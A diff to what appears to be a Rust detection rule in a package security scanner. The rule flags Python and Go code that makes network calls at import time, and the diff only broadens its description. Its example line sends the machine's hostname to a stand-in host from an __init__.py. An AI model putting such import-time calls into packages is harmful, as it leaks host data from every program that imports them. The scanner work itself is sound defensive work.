@@ -95,7 +95,7 @@ correlation!(
     High,
     ImportTime,
     Some("T1071"),
-    "Python code that runs on every import (module level, or a function called from there) uses the network.",
+    "Code that runs on every import (a Python module body or a function called from there; a Go init() or package-level initialiser) uses the network.",
     "Libraries make network calls when asked to; code that calls out as soon as the package is imported acts on every program that imports it, unasked. Hiding the call in `def run():` and calling `run()` on the last line changes nothing; code under `if __name__ == '__main__':` runs only as a script and does not count.",
     "__init__.py: requests.get('https://x/' + socket.gethostname())"
 );
